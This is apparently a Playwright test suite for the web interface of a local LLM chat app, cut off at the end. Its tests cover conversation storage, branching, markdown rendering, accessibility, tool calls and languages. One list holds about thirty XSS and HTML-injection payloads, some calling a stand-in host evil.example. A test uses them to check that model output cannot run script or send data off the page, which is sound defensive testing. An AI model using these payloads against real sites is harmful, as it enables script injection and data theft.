# ruff: noqa: E501
"""The page in a real browser, where there is one: set QUARREL_CHROMIUM to a Chromium and install playwright."""

from __future__ import annotations

import asyncio
import base64
import io
import json
import os
import random
import threading
import time
from collections.abc import AsyncIterator, Callable, Iterator, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

import quarrel
from quarrel.engine import Chunk
from quarrel.server import Keyring, Rates, Settings
from quarrel.server import websocket as server_socket
from quarrel.server.dispatch import Generation, chunks
from quarrel.server.rest import prepare_of
from quarrel.server.schemas import THEIRS, Samplers
from quarrel.toolbox import Toolbox
from tests.paths import need_cases
from tests.server.conftest import Live, running

CHROMIUM = os.environ.get("QUARREL_CHROMIUM", "")
playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
pytestmark = pytest.mark.skipif(not Path(CHROMIUM).is_file(), reason="QUARREL_CHROMIUM names no browser")

AXE = os.environ.get("QUARREL_AXE", "")
SHOTS = os.environ.get("QUARREL_SHOTS")
"""A folder for screenshots."""

PAYLOADS = [
    "<script>hit()</script>", "<img src=x onerror=hit()>", "<svg onload=hit()>", "<svg><script>hit()</script></svg>",
    "[a](javascript:hit())", "[a](JaVaScRiPt:hit())", "[a](data:text/html,<script>hit()</script>)", "![a](x onerror=hit())",
    "![x](https://evil.example/leak?q=1)", "<iframe srcdoc='<script>parent.hit()</script>'></iframe>", "<a href='javascript:hit()'>a</a>",
    "```html\n<script>hit()</script>\n```", "`<img src=x onerror=hit()>`", "<details open ontoggle=hit()>", "<math><mtext></form><form>"
    "<mglyph><style></math><img src onerror=hit()>", "<style>@import 'https://evil.example/x.css'</style>", "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><input name=a></form>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<object data='data:text/html,<script>hit()</script>'>", "<p style='background:url(https://evil.example/a)'>a", "<b id=app>a</b>",
    "|a|\n|-|\n|<img src=x onerror=hit()>|", "[x]: javascript:hit()\n[x]", "<https://a.example/\"onmouseover=\"hit()>",
    "```\"><img src=x onerror=hit()>\na\n```", "<noscript><p title='</noscript><img src=x onerror=hit()>'>", "&lt;img src=x onerror=hit()&gt;",
    "<template><img src=x onerror=hit()></template>", "<video><source onerror=hit()></video>", "\u0000<scr\u0000ipt>hit()</scr\u0000ipt>",
]  # fmt: skip


@pytest.fixture(name="browser", scope="module")
def _browser() -> Iterator[Any]:
    with playwright.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu", "--headless=shell"])
        yield browser
        browser.close()


@pytest.fixture(name="tab")
def _tab(browser: Any, live: Live, request: pytest.FixtureRequest) -> Iterator[Callable[..., Any]]:
    """Opens one more tab of the same person's browser."""
    # The page's own policy stands but in the test that brings a script of its own.
    bypass = request.node.originalname.startswith("test_axe")
    context = browser.new_context(viewport={"width": 1200, "height": 800}, bypass_csp=bypass, accept_downloads=True)
    context.add_init_script("localStorage.quarrelDefaults ??= JSON.stringify({options: {max_tokens: 40}})")
    # It is not there where a page comes by plain http from another machine.
    context.add_init_script("delete Crypto.prototype.randomUUID")

    def tab(path: str = "/") -> Any:
        page = context.new_page()
        page.problems, page.foreign = [], []
        page.on("pageerror", lambda e: page.problems.append(str(e)))
        page.on("console", lambda m: page.problems.append(m.text) if m.type == "error" else None)
        ours = (live.url, "data:", "blob:")
        page.on("request", lambda r: page.foreign.append(r.url) if not r.url.startswith(ours) else None)
        page.goto(live.url + path)
        page.wait_for_selector("[data-state=connected]", state="attached")
        return page

    yield tab
    context.close()


@pytest.fixture(name="page")
def _page(tab: Callable[..., Any]) -> Any:
    return tab()


def shot(page: Any, name: str) -> None:
    if SHOTS:
        page.screenshot(path=str(Path(SHOTS) / f"{name}.png"))


def write(page: Any, text: str) -> None:
    page.fill("#input", text)
    page.keyboard.press("Enter")


def answered(page: Any) -> str:
    """The last answer, once it is whole."""
    page.wait_for_selector(".message:last-child.assistant .actions")
    text: str = page.inner_text(".message:last-child .prose")
    return text


def says(monkeypatch: pytest.MonkeyPatch, *pieces: str, hold: asyncio.Event | None = None) -> None:
    """What the model writes next: these pieces; then its end, or nothing more while `hold` is not set."""

    async def told(generation: Generation, which: int, timeout: float) -> AsyncIterator[Chunk]:
        for piece in pieces:
            yield Chunk(piece, 1)
        while hold is not None and not hold.is_set():
            await asyncio.sleep(0.01)
        end = [chunk async for chunk in chunks(generation, which, timeout)][-1]
        end.text = ""
        yield end

    monkeypatch.setattr(server_socket, "chunks", told)


def imported(page: Any, *texts: str, more: Mapping[int, Mapping[str, Any]] | None = None) -> None:
    """A conversation with these answers, from a file. more: fields of messages, by number."""
    messages, parent = [], None
    for i, text in enumerate(texts):
        role = "assistant" if i % 2 or len(texts) == 1 else "user"
        row = {"id": f"m{i}", "conversation": "c0", "parent": parent, "role": role, "text": text, "created": i}
        row |= (more or {}).get(i, {})
        messages.append(row)
        parent = row["id"]
    record = {"id": "c0", "title": "Imported", "created": 1, "changed": 1, "leaf": parent, "options": {}}
    data = json.dumps({"quarrel": 1, "conversations": [record], "messages": messages}).encode()
    page.set_input_files("#import-file", {"name": "a.json", "mimeType": "application/json", "buffer": data})
    page.click(".list a:has-text('Imported')")


def test_a_conversation_is_written_kept_and_found_again(page: Any) -> None:
    write(page, "Once upon a time")
    text = answered(page)
    assert len(text) > 20
    page.reload()
    assert answered(page) == text
    page.click("text=New conversation >> nth=0")
    page.wait_for_selector(".greeting")
    page.fill("#search", text.split()[3])
    page.click(".list a")
    assert answered(page) == text
    page.fill("#search", "no such words")
    page.wait_for_selector("text=Nothing found")
    assert not page.problems
    assert not page.foreign


def test_what_earlier_pages_kept_is_taken_over_once(page: Any) -> None:
    old = [
        {
            "id": "a1",
            "title": "Old",
            "changed": 5,
            "messages": [{"role": "user", "text": "q"}, {"role": "assistant", "text": "kept"}],
        }
    ]
    page.evaluate("(old) => { localStorage.quarrelConversation = JSON.stringify(old) }", old)
    for _ in range(2):
        page.reload()
        page.wait_for_selector(".list a")
        assert page.locator(".list a").count() == 1
    page.click(".list a")
    assert answered(page) == "kept"


def test_an_answer_is_stopped(page: Any, live: Live, monkeypatch: pytest.MonkeyPatch) -> None:
    async def endless(generation: Generation, which: int, timeout: float) -> AsyncIterator[Chunk]:
        async for chunk in chunks(generation, which, timeout):
            yield chunk
            await asyncio.Event().wait()

    monkeypatch.setattr(server_socket, "chunks", endless)
    write(page, "A very long story")
    page.wait_for_selector("#stop")
    page.keyboard.press("Escape")
    page.wait_for_selector(".message.assistant .stats:has-text('stopped')")
    assert page.is_visible("#send")
    loaded = live.server.dispatcher.models.entry("demo").loaded
    assert loaded is not None
    end = time.monotonic() + 60
    while loaded.llm.activity().running and time.monotonic() < end:
        page.wait_for_timeout(10)
    assert not loaded.llm.activity().running


def test_a_reload_finds_a_running_answer_and_another_conversation_runs_beside_it(
    page: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    hold = asyncio.Event()
    says(monkeypatch, "The first", " half", hold=hold)
    write(page, "one")
    page.wait_for_selector(".live >> text=The first half")
    page.reload()
    page.wait_for_selector(".live >> text=The first half")
    page.click("text=New conversation >> nth=0")
    page.wait_for_selector(".greeting")
    write(page, "two")
    page.wait_for_selector(".live >> text=The first half")
    assert page.locator(".list .busy").count() == 2
    hold.set()
    assert answered(page) == "The first half"
    page.click(".list a:has-text('one')")
    page.wait_for_selector(".message.user >> text=one")
    assert answered(page) == "The first half"
    page.wait_for_selector(".list .busy", state="detached")


def test_an_answer_that_the_server_no_longer_has_says_so(page: Any, live: Live) -> None:
    write(page, "one")
    answered(page)
    page.evaluate(
        """() => new Promise((done) => {
          const open = indexedDB.open("quarrel");
          open.onsuccess = () => {
            const change = open.result.transaction("messages", "readwrite"), all = change.objectStore("messages");
            all.getAll().onsuccess = (e) => all.put({ ...e.target.result.find((m) => m.role === "assistant"), running: 1, request: "gone" });
            change.oncomplete = () => { open.result.close(); done(); };
          };
        })"""
    )
    page.reload()
    page.wait_for_selector("text=The server no longer has the rest of this answer.")


def test_two_tabs_add_to_each_other(tab: Callable[..., Any], page: Any) -> None:
    other = tab()
    write(page, "from the first")
    answered(page)
    write(other, "from the second")
    answered(other)
    for each in (page, other):
        each.wait_for_function("document.querySelectorAll('.list a').length === 2")
    other.click(".list a:has-text('first')")
    write(other, "and on")
    text = answered(other)
    page.wait_for_selector(".message.user >> text=and on")
    assert answered(page) == text
    page.reload()
    page.wait_for_function("document.querySelectorAll('.list a').length === 2")


def test_an_answer_is_a_branch_and_nothing_is_deleted(page: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    for n, question in enumerate(("one", "two")):
        says(monkeypatch, f"answer {n}")
        write(page, question)
        page.wait_for_selector(f".prose >> text=answer {n}")
        answered(page)
    says(monkeypatch, "another")
    first = page.locator(".message.assistant").first
    first.hover()
    first.get_by_role("button", name="Again").click()
    page.wait_for_selector(".prose >> text=another")
    answered(page)
    assert page.locator(".message").count() == 2
    assert "2/2" in page.inner_text(".message.assistant")
    page.keyboard.press("Alt+ArrowLeft")
    page.wait_for_selector(".prose >> text=answer 1")
    assert page.locator(".message").count() == 4
    user = page.locator(".message.user").first
    user.hover()
    user.get_by_role("button", name="Edit").click()
    page.keyboard.type(" more")
    page.keyboard.press("Escape")
    assert page.locator(".message.user").first.inner_text() == "one"
    user.hover()
    user.get_by_role("button", name="Edit").click()
    page.keyboard.type(" more")
    says(monkeypatch, "edited")
    page.keyboard.press("Enter")
    page.wait_for_selector(".prose >> text=edited")
    answered(page)
    assert "2/2" in page.locator(".message.user").first.inner_text()
    page.locator(".message.user").first.get_by_role("button", name="Previous").click()
    page.wait_for_selector(".prose >> text=answer 1")
    page.reload()
    page.wait_for_selector(".prose >> text=answer 1")
    assert page.locator(".message").count() == 4


def test_a_name_is_given_with_enter_and_a_deleted_conversation_comes_back(page: Any) -> None:
    write(page, "Once")
    answered(page)
    page.hover(".list li")
    page.click(".list li button")
    page.click("text=Rename")
    page.keyboard.type("A name")
    page.keyboard.press("Enter")
    page.wait_for_selector(".list a:has-text('A name')")
    page.hover(".list li")
    page.click(".list li button")
    page.click("[role=menuitem]:has-text('Delete')")
    page.wait_for_selector(".list a", state="detached")
    page.click("text=Undo")
    page.wait_for_selector(".list a:has-text('A name')")


def test_conversations_leave_and_come_back_without_doubles(page: Any) -> None:
    write(page, "Once")
    text = answered(page)
    page.click("text=Settings")
    with page.expect_download() as download:
        page.click("text=Export all")
    data = Path(download.value.path()).read_bytes()
    file = {"name": "quarrel.json", "mimeType": "application/json", "buffer": data}
    page.set_input_files("#import-file", file)
    page.wait_for_selector("text=0 new conversations")
    page.evaluate(
        "() => new Promise((done) => { const r = indexedDB.deleteDatabase('quarrel'); r.onsuccess = done; r.onblocked = done; })"
    )
    page.goto("about:blank")
    page.go_back()
    page.wait_for_selector(".nothing")
    page.set_input_files("#import-file", file)
    page.wait_for_selector("text=1 new conversations")
    page.click(".list a")
    assert answered(page) == text
    page.set_input_files("#import-file", {**file, "buffer": b"[1, {}]"})
    page.wait_for_selector("text=That file holds no conversations")


MARKDOWN = r"""# Head
Some **bold** and `code` &amp; $x^2$ for $5 and $6.

1. one

```python
def f(x):
    return x + 1
```

2. two

| a | b |
|:-:|--:|
| 1 | 2 |

- [x] done
- [ ] open

$$\int_0^1 x\,dx$$
"""


def test_markdown_math_and_code_while_they_are_written(page: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    rng = random.Random(1)
    cuts = sorted(rng.sample(range(1, len(MARKDOWN)), 60))
    says(monkeypatch, *(MARKDOWN[a:b] for a, b in zip([0, *cuts], [*cuts, len(MARKDOWN)])))
    write(page, "show me")
    answered(page)
    page.wait_for_selector(".math.display .katex")
    assert page.locator(".katex-display").count() == 1
    assert page.locator(".math:not(.display) .katex").count() == 1
    assert "for $5 and $6." in page.inner_text(".prose")
    assert page.inner_text(".code-head span") == "Python"
    assert page.locator("pre code .hljs-keyword").count() >= 2
    assert [page.locator("ol").nth(1).get_attribute("start"), page.locator("ol").count()] == ["2", 2]
    assert page.locator("td.right, td.center").count() == 2
    assert page.locator(".tasks input").count() == 2
    assert page.locator(".tasks input:checked").count() == 1
    assert not page.problems


def test_what_is_written_stays_drawn_when_more_comes_and_when_it_is_whole(
    page: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    hold = asyncio.Event()
    says(monkeypatch, *(f"{MARKDOWN}\n\nPart {n} of [it][late].\n\n" for n in range(8)), "The end.", hold=hold)
    write(page, "show me")
    page.wait_for_selector(".live .section >> text=The end.")
    assert page.locator(".section").count() > 2
    page.wait_for_selector(".live pre code .hljs-keyword")
    page.evaluate("document.querySelectorAll('.section > p, .code').forEach((at) => { at.seen = true; })")
    hold.set()
    answered(page)
    stands = "[...document.querySelectorAll('.section > p, .code')].map((at) => at.seen === true)"
    assert page.evaluate(stands) == [True] * page.locator(".section > p, .code").count()
    assert page.locator(".prose a").count() == 0
    assert not page.problems


WORDS = (
    "(at) => { const range = document.createRange(); range.selectNodeContents(at); return range.getClientRects().length; }"
)


def test_words_of_a_table_stay_whole_on_a_phone(page: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    page.set_viewport_size({"width": 390, "height": 780})
    says(
        monkeypatch,
        "| sign of it | roots | note |\n|:--|:-:|--:|\n| negative | 0 | complex pair, of numbers of another kind |\n",
    )
    write(page, "show me")
    answered(page)
    page.wait_for_selector("td:has-text('negative')")
    assert [page.eval_on_selector(cell, WORDS) for cell in ("td >> nth=0", "th >> nth=1")] == [1, 1]


def test_the_page_can_be_installed(page: Any, live: Live) -> None:
    manifest = live.client.get("/static/manifest.webmanifest").json()
    assert (manifest["display"], manifest["start_url"], manifest["scope"]) == ("standalone", "/", "/")
    sizes = [icon["sizes"] for icon in manifest["icons"] if icon["type"] == "image/png"]
    assert {"192x192", "512x512"} <= set(sizes)
    page.evaluate("navigator.serviceWorker.ready.then((r) => r.active.state)")
    errors = page.context.new_cdp_session(page).send("Page.getInstallabilityErrors")["installabilityErrors"]
    assert [e for e in errors if e["errorId"] != "in-incognito"] == []


def test_an_address_that_comes_after_its_name_makes_a_link(page: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    says(monkeypatch, "See [it][late].\n\nMore.\n\nAnd more.\n\n", "[late]: https://example.org\n\n", "The end of it.")
    write(page, "and the address?")
    answered(page)
    assert page.get_attribute(".prose a", "href") == "https://example.org"
    assert not page.problems


@pytest.mark.parametrize("text", ["<think>Let me see.</think>\n\nYes.", "Let me see.</think>Yes.", "[THINK]Let me see.[/THINK]Yes.",
    "<|channel|>analysis<|message|>Let me see.<|end|><|start|>assistant<|channel|>final<|message|>Yes."])  # fmt: skip
def test_thoughts_are_folded_away(page: Any, monkeypatch: pytest.MonkeyPatch, text: str) -> None:
    says(monkeypatch, *(text[i : i + 3] for i in range(0, len(text), 3)))
    write(page, "why?")
    page.wait_for_selector(".message.assistant .actions")
    assert page.locator(".message.assistant > .prose").inner_text() == "Yes."
    assert "Let me see" not in page.inner_text(".message.assistant")
    page.click(".thoughts summary")
    page.wait_for_selector(".thoughts >> text=Let me see.")


def test_themes_widths_settings_and_figures(page: Any, live: Live) -> None:
    live.client.post("/api/models/demo")
    page.click("text=Settings")
    page.click("[role=menuitem]:has-text('Theme')")
    for name in ("Dark", "Light"):
        page.check(f"label:has-text('{name}') input", force=True)
        assert page.evaluate("document.documentElement.dataset.theme") == name.lower()
    page.keyboard.press("Escape")
    page.keyboard.press("Control+.")
    page.fill("#set-top_k", "7")
    page.keyboard.press("Tab")
    page.fill("#set-schema", "{")
    page.keyboard.press("Tab")
    page.wait_for_selector("text=This is no JSON")
    page.keyboard.press("Control+.")
    page.click("[aria-label=Metrics]")
    page.wait_for_selector("#metrics canvas", timeout=20000)
    page.click("text=New conversation >> nth=0")
    page.wait_for_selector("#input")
    page.set_viewport_size({"width": 380, "height": 740})
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert not page.problems


def test_nothing_that_a_model_writes_runs_or_leaves_the_page(page: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    rng, pieces = random.Random(1), list[str]()
    for payload in PAYLOADS * 2:
        text = "\n\nSome words.\n\n" + payload + "\n\nand more"
        cuts = sorted(rng.sample(range(1, len(text)), 2))
        pieces += [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)])]
    page.evaluate("() => { window.hits = 0; window.hit = () => { window.hits += 1; }; }")
    says(monkeypatch, *pieces)
    write(page, "attack")
    answered(page)
    page.wait_for_timeout(200)
    found = page.evaluate(
        """() => {
          const at = document.querySelector(".message.assistant .prose"), wrong = [];
          for (const each of at.querySelectorAll("*:not(.katex *)"))
            for (const a of each.attributes) if (/^on|^style$|^id$|^src/i.test(a.name)) wrong.push(a.name);
          for (const each of at.querySelectorAll("script,img,iframe,object,form,style,base,meta,video,template,math:not(.katex math)")) wrong.push(each.tagName);
          for (const a of at.querySelectorAll("a[href]")) if (!/^(https?:\\/\\/|mailto:)/.test(a.getAttribute("href"))) wrong.push(a.href);
          return [window.hits, wrong];
        }"""
    )
    assert found == [0, []]
    assert page.foreign == []


with_axe = pytest.mark.skipif(
    not Path(AXE).is_file(), reason="QUARREL_AXE names no axe.min.js (of the npm package axe-core)"
)


def findings_of(page: Any) -> Callable[[str], None]:
    """Asserts that axe finds nothing on the page as it is."""
    page.add_style_tag(content="*, ::before, ::after { animation: none !important; transition: none !important }")
    page.evaluate("(s) => new Function(s).call(window)", Path(AXE).read_text("utf-8"))

    def findings(where: str) -> None:
        found = page.evaluate("async () => (await axe.run(document)).violations.map((v) => `${v.id} ${v.nodes[0].html}`)")
        assert found == [], where

    return findings


@with_axe
def test_axe_finds_nothing(page: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    findings = findings_of(page)
    findings("empty")
    says(monkeypatch, "<think>Hm.</think>", MARKDOWN)
    write(page, "Once upon a time")
    answered(page)
    page.wait_for_selector(".math.display .katex")
    page.click(".thoughts summary")
    page.keyboard.press("Control+.")
    page.click("summary:has-text('More samplers')")
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        findings(f"an answer and its settings, {scheme}")
    page.keyboard.press("Control+.")
    page.keyboard.press("Control+/")
    findings("help")
    page.keyboard.press("Control+/")
    page.click(".model")
    findings("models")
    page.keyboard.press("Escape")
    page.set_viewport_size({"width": 380, "height": 740})
    page.keyboard.press("Control+Shift+S")
    findings("phone, sidebar")


@with_axe
def test_axe_finds_nothing_in_calls_and_images(page: Any, live: Live) -> None:
    live.client.post("/api/models/demo")
    function = {"name": "now", "description": "The time.", "parameters": {"type": "object", "properties": {}}}
    page.route("**/api/tools", lambda route: route.fulfill(json={"tools": [{"type": "function", "function": function}]}))
    page.reload()
    page.wait_for_selector("[data-state=connected]", state="attached")
    image = "data:image/png;base64," + base64.b64encode(picture("PNG")).decode()
    calls = [{"id": str(i), "function": {"name": name, "arguments": "{}"}} for i, name in enumerate(("now", "then", "now"))]
    more = {
        0: {"attachments": [{"name": "a.png", "image": image}, {"name": "b.txt", "text": "words"}]},
        1: {"calls": calls, "stats": {"prompt": 400, "tokens": 20, "dropped": 2}},
        2: {"role": "tool", "call": "2", "name": "now", "failed": True},
    }
    imported(page, "Look", "", "The tool failed: no clock", more=more)
    page.wait_for_selector(".call .choices")
    findings = findings_of(page)
    page.click(".message.tool summary")
    page.keyboard.press("Control+.")
    for width, scheme in ((1200, "light"), (1200, "dark"), (412, "light"), (412, "dark")):
        page.set_viewport_size({"width": width, "height": 860})
        page.emulate_media(color_scheme=scheme)
        findings(f"{width} {scheme}")
    page.set_viewport_size({"width": 1200, "height": 860})
    page.keyboard.press("Control+.")
    page.click(".meter")
    findings("the context's menu")
    page.keyboard.press("Escape")
    page.click("[aria-label='Show a.png']")
    findings("an image")


def test_a_long_prompt_is_read_in_parts_that_are_told(page: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    hold = asyncio.Event()

    async def reading(generation: Generation, which: int, timeout: float) -> AsyncIterator[Chunk]:
        yield Chunk("", read=2)
        while not hold.is_set():
            await asyncio.sleep(0.01)
        async for chunk in chunks(generation, which, timeout):
            yield chunk

    monkeypatch.setattr(server_socket, "chunks", reading)
    write(page, "Once upon a time")
    page.wait_for_selector(".phase progress[value='2']")
    assert "Reading 2 of" in page.inner_text(".phase")
    hold.set()
    answered(page)


def test_a_key_is_asked_for_in_place(browser: Any, tmp_path: Path) -> None:
    _, secret = Keyring(tmp_path).create("page")
    with running(Settings(data_dir=tmp_path, rates=Rates(requests=0))) as locked:
        page = browser.new_context().new_page()
        page.goto(locked.url)
        page.fill("dialog #set-key", "wrong")
        page.keyboard.press("Enter")
        page.wait_for_selector("text=did not accept this key")
        page.fill("dialog #set-key", secret)
        page.keyboard.press("Enter")
        page.wait_for_selector("[data-state=connected]", state="attached")
        page.wait_for_selector("dialog", state="detached")
        page.reload()
        page.wait_for_selector("[data-state=connected]", state="attached")
        page.context.close()


def test_a_model_is_downloaded_from_the_page(browser: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    go = threading.Event()

    def slow(name: str, progress: Callable[[str, int, int], None]) -> None:
        progress("m.gguf", 25, 100)
        go.wait(60)

    monkeypatch.setattr("quarrel.server.ollama_models.download", slow)
    with running(Settings(data_dir=tmp_path, rates=Rates(requests=0))) as live:
        page = browser.new_context().new_page()
        page.goto(live.url)
        page.click(".model")
        page.fill(".pull input", "hf://owner/repo:Q4_K_M")
        page.keyboard.press("Enter")
        page.wait_for_selector(".pull progress[value='0.25']")
        go.set()
        page.wait_for_selector("text=hf://owner/repo:Q4_K_M is here.")
        page.wait_for_selector(".model-list >> text=owner/repo:Q4_K_M")
        page.context.close()


def pdf(text: str) -> bytes:
    """The smallest document that says this."""
    stream = f"BT /F1 24 Tf 72 720 Td ({text}) Tj ET"
    parts = ["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        f"<</Length {len(stream)}>>stream\n{stream}\nendstream", "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"]  # fmt: skip
    return (
        "%PDF-1.4\n" + "".join(f"{i} 0 obj{p}endobj\n" for i, p in enumerate(parts, 1)) + "trailer<</Root 1 0 R>>"
    ).encode()


def test_files_are_attached_and_shown(page: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    says(monkeypatch, "read")
    files = [("a.csv", b"x,y\n1,2"), ("b.pdf", pdf("A page of text")), ("c.bin", b"\x00\xff"), ("d.txt", b" ")]
    for name, data in files:
        page.set_input_files("#files", {"name": name, "mimeType": "", "buffer": data})
        where = ".toast" if name in ("c.bin", "d.txt") else ".composer .files"
        page.wait_for_selector(f"{where} >> text={name}")
    assert page.locator(".composer .files li").count() == 2
    page.click("[aria-label='Remove a.csv']")
    page.keyboard.press("Escape")
    page.focus("#input")
    page.keyboard.press("Enter")
    answered(page)
    assert "14 characters" in page.inner_text(".message.user .files")
    assert not [p for p in page.problems if "b.pdf" in p]


@pytest.mark.parametrize(
    ("code", "words"),
    [
        ("de", "Neues Gespräch"),
        ("es", "Nueva conversación"),
        ("fr", "Nouvelle conversation"),
        ("ja", "新しい会話"),
        ("zh", "新对话"),
    ],
)
def test_the_page_speaks_other_languages(page: Any, code: str, words: str) -> None:
    page.click("text=Settings")
    page.click("[role=menuitem]:has-text('Language')")
    page.select_option("#set-language", code)
    page.wait_for_selector(f".new >> text={words}")
    page.reload()
    page.wait_for_selector(f".new >> text={words}")
    assert page.evaluate("document.documentElement.lang") == code


def test_a_tool_is_called_and_its_result_goes_back(page: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    page.evaluate(
        'localStorage.quarrelDefaults = JSON.stringify({options: {max_tokens: 1}, tools: \'[{"type":"function","function":{"name":"now"}}]\'})'
    )
    page.reload()
    row = {"name": "now", "arguments": {"zone": "UTC"}}

    async def calls(generation: Generation, which: int, timeout: float) -> AsyncIterator[Chunk]:
        end = [chunk async for chunk in chunks(generation, which, timeout)][-1]
        assert end.result is not None
        end.result = replace(end.result, text=f"<tool_call>{json.dumps(row)}</tool_call>")
        yield end

    monkeypatch.setattr(server_socket, "chunks", calls)
    write(page, "what time is it?")
    page.wait_for_selector(".call >> text=now")
    says(monkeypatch, "It is noon.")
    page.fill(".call textarea", "12:00")
    page.click("text=Give the result")
    page.wait_for_selector(".prose >> text=It is noon.")
    page.click("summary:has-text('Result of now')")
    page.wait_for_selector(".tool pre >> text=12:00")


def test_the_context_is_shortened_and_says_so(page: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    for n in range(3):
        says(monkeypatch, f"answer {n}")
        write(page, f"question {n}")
        page.wait_for_selector(f".prose >> text=answer {n}")
        answered(page)
    page.click(".meter")
    page.click("[role=menuitem]:has-text('Leave out')")
    page.wait_for_selector(".cut >> text=no longer sees")
    sent: list[Any] = []
    monkeypatch.setattr(server_socket, "prepare_of", lambda body, *a, **k: sent.append(body) or prepare_of(body, *a, **k))
    write(page, "question 3")
    page.wait_for_selector(".message.user >> text=question 3")
    answered(page)
    assert [m.content for m in sent[0].messages] == ["question 2", "answer 2"]
    page.click(".cut button")
    page.wait_for_selector(".cut", state="detached")


def test_a_summary_stands_for_the_oldest_turns(page: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    for n in range(3):
        says(monkeypatch, f"answer {n}")
        write(page, f"question {n}")
        page.wait_for_selector(f".prose >> text=answer {n}")
        answered(page)
    told = [{"token": "<think>Hm.</think>They spoke"}, {"token": " of numbers."}]
    body = "".join(f"data: {json.dumps(row)}\n\n" for row in told)
    asked: list[Any] = []
    page.route("**/api/stream", lambda route: asked.append(route.request.post_data_json) or route.fulfill(body=body))
    page.click(".meter")
    page.click("[role=menuitem]:has-text('Summarise')")
    page.click(".cut summary")
    page.wait_for_selector(".cut >> text=They spoke of numbers.")
    assert "question 0" in asked[0]["prompt"]
    assert "question 2" not in asked[0]["prompt"]
    sent: list[Any] = []
    monkeypatch.setattr(server_socket, "prepare_of", lambda body, *a, **k: sent.append(body) or prepare_of(body, *a, **k))
    write(page, "question 3")
    page.wait_for_selector(".message.user >> text=question 3")
    answered(page)
    assert "They spoke of numbers." in sent[0].system
    assert [m.content for m in sent[0].messages] == ["question 2", "answer 2"]


def test_every_sampler_can_be_set(page: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    page.keyboard.press("Control+.")
    page.click("summary:has-text('More samplers')")
    fields = set(Samplers.model_fields) - {"stop", "samplers", "ignore_eos", *THEIRS}
    for name in fields - {"mirostat", "seed", "dry_sequence_breakers"}:
        page.fill(f"#set-{name}", page.get_attribute(f"#set-{name}", "max"))
        page.keyboard.press("Tab")
    page.fill("#set-seed", "7")
    page.select_option("#set-mirostat", "2")
    page.fill("#set-dry_sequence_breakers", ";\n\\n")
    chosen = page.locator("#set-reasoning_effort")
    assert chosen.evaluate("e => e.scrollWidth <= e.clientWidth && e.clientWidth > 120")  # its words are whole
    page.select_option("#set-reasoning_effort", "low")
    page.fill("#set-thinking_token_budget", "9")
    page.keyboard.press("Tab")
    sent: list[Any] = []
    monkeypatch.setattr(server_socket, "prepare_of", lambda body, *a, **k: sent.append(body) or prepare_of(body, *a, **k))
    write(page, "question")
    page.wait_for_selector(".message.assistant .actions")
    assert not page.locator(".failure").count()
    assert fields <= set(sent[0].sampling())
    assert sent[0].dry_sequence_breakers == [";", "\n"]
    assert (sent[0].reasoning_effort, sent[0].thinking_token_budget) == ("low", 9)


def test_by_keyboard_alone(page: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    says(monkeypatch, "first")
    page.keyboard.type("hello")
    page.keyboard.press("Enter")
    answered(page)
    page.keyboard.press("ArrowUp")
    page.keyboard.type("!")
    says(monkeypatch, "second")
    page.keyboard.press("Enter")
    page.wait_for_selector(".prose >> text=second")
    answered(page)
    page.keyboard.press("Control+Shift+O")
    page.wait_for_selector(".greeting")
    page.keyboard.press("Control+K")
    page.keyboard.type("hello")
    page.wait_for_selector(".list small >> text=hello")
    page.keyboard.press("Tab")
    page.keyboard.press("F2")
    page.keyboard.type("named")
    page.keyboard.press("Enter")
    page.wait_for_selector(".list a:has-text('named')", state="attached")
    page.keyboard.press("Control+/")
    page.wait_for_selector("dialog .keys")
    page.keyboard.press("Escape")
    page.wait_for_selector("dialog", state="detached")
    page.keyboard.press("Shift+Escape")
    assert page.evaluate("document.activeElement.id") == "input"


def test_five_thousand_messages_are_not_all_drawn(page: Any) -> None:
    imported(page, *(f"message {i}\n\nand **more** of it" for i in range(5000)))
    page.wait_for_selector("text=message 4999")
    assert page.locator(".message").count() < 100
    page.evaluate("document.getElementById('scroll').scrollTop = 0")
    page.wait_for_selector("text=message 0")
    assert page.locator(".message").count() < 100


def test_models_are_loaded_and_unloaded(page: Any, live: Live) -> None:
    write(page, "Once")
    answered(page)
    page.click(".model")
    assert "Q8_0" in page.inner_text(".model-list")
    assert "11 M" in page.inner_text(".model-list")
    page.click("[aria-label^=Unload]")
    page.wait_for_selector(".model-list .dot.unloaded")
    page.keyboard.press("Escape")
    write(page, "Once more")
    page.wait_for_selector(".message:nth-child(4) .actions")
    page.wait_for_selector(".model .dot.loaded")


def test_the_api_is_told_on_a_page_of_its_own(page: Any, live: Live) -> None:
    page.goto(f"{live.url}/static/api.html")
    page.wait_for_selector("details")
    page.click("summary:has-text('/v1/chat/completions')")
    row = page.inner_text("details[open] tr:has-text('temperature')")
    assert "number" in row
    assert "at least 0, at most 100" in row
    shot(page, "api")
    assert not page.problems


def test_a_route_is_tried_on_the_page(page: Any, live: Live) -> None:
    page.goto(f"{live.url}/static/api.html")
    for name, said in (
